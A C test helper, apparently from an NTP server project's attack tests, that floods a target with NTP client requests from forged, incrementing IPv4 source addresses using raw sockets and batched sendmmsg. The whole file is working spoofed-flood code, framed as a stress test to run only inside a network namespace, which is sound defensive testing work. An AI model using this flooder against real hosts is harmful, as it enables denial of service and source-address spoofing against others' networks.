/*
 * Copyright (c) ntpservice developers. See LICENSE for details.
 *
 * A flood of NTP client requests (mode 3), each from a fresh forged IPv4
 * source address, for tests/attacks/test_spoofed_flood.py: what
 * tests/attacks/spoof.py --flood does, fast enough for a million datagrams
 * in seconds (sendmmsg on a raw socket, batches of 256).
 *
 *   flood DST PORT FIRST_SOURCE COUNT RATE
 *
 * sends COUNT datagrams to DST:PORT from FIRST_SOURCE, FIRST_SOURCE + 1, ...
 * at most RATE per second (0: as fast as it can), and prints
 * {"sent": N, "seconds": S} on stdout. The UDP checksum is 0 (none, valid
 * in IPv4); the IP header checksum is computed for each datagram. Run it
 * inside a network namespace only (it needs CAP_NET_RAW).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 256
#define LENGTH (20 + 8 + 48)

static uint16_t ipChecksum(const uint8_t *header)
{
    uint32_t sum = 0;
    for (int i = 0; i < 20; i += 2)
        sum += (uint32_t)(header[i] << 8 | header[i + 1]);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    if (argc != 6) {
        fprintf(stderr, "usage: flood DST PORT FIRST_SOURCE COUNT RATE\n");
        return 2;
    }
    struct in_addr dst, first;
    if (!inet_aton(argv[1], &dst) || !inet_aton(argv[3], &first)) {
        fprintf(stderr, "flood: bad address\n");
        return 2;
    }
    unsigned port = (unsigned)atoi(argv[2]);
    long count = atol(argv[4]);
    double rate = atof(argv[5]);
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (s < 0) {
        perror("flood: socket");
        return 1;
    }
    static uint8_t packets[BATCH][LENGTH];
    static struct iovec iov[BATCH];
    static struct mmsghdr messages[BATCH];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
    for (int i = 0; i < BATCH; i++) {
        uint8_t *p = packets[i];
        memset(p, 0, LENGTH);
        p[0] = 0x45;                       /* IPv4, 20-byte header */
        p[2] = LENGTH >> 8;
        p[3] = LENGTH & 0xff;
        p[8] = 64;                         /* TTL */
        p[9] = IPPROTO_UDP;
        memcpy(p + 16, &dst, 4);
        p[20] = 123 >> 8;                  /* source port 123 */
        p[21] = 123 & 0xff;
        p[22] = port >> 8;
        p[23] = port & 0xff;
        p[24] = (8 + 48) >> 8;
        p[25] = (8 + 48) & 0xff;
        p[28] = 0x23;                      /* LI 0, version 4, mode 3 */
        p[28 + 2] = 6;                     /* poll */
        p[28 + 3] = 0xec;                  /* precision -20 */
        iov[i].iov_base = p;
        iov[i].iov_len = LENGTH;
        messages[i].msg_hdr.msg_iov = &iov[i];
        messages[i].msg_hdr.msg_iovlen = 1;
        messages[i].msg_hdr.msg_name = &to;
        messages[i].msg_hdr.msg_namelen = sizeof to;
    }
    uint32_t source = ntohl(first.s_addr);
    long sent = 0, full = 0;
    double start = now();
    while (sent < count) {
        int n = count - sent < BATCH ? (int)(count - sent) : BATCH;
        for (int i = 0; i < n; i++) {
            uint8_t *p = packets[i];
            uint32_t src = htonl(source + (uint32_t)(sent + i));
            uint32_t serial = (uint32_t)(sent + i);
            memcpy(p + 12, &src, 4);
            p[4] = (serial >> 8) & 0xff;   /* IP identification */
            p[5] = serial & 0xff;
            memcpy(p + 28 + 40, &serial, 4); /* transmit timestamp: unique */
            p[10] = p[11] = 0;
            uint16_t sum = ipChecksum(p);
            p[10] = sum >> 8;
            p[11] = sum & 0xff;
        }
        int done = sendmmsg(s, messages, (unsigned)n, 0);
        if (done < 0) {
            if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
                perror("flood: sendmmsg");
                return 1;
            }
            full++;
            usleep(200);
            continue;
        }
        sent += done;
        if (rate > 0) {
            double ahead = sent / rate - (now() - start);
            if (ahead > 0)
                usleep((useconds_t)(ahead * 1e6));
        }
    }
    printf("{\"sent\": %ld, \"seconds\": %.3f, \"full\": %ld}\n", sent, now() - start, full);
    return 0;
}
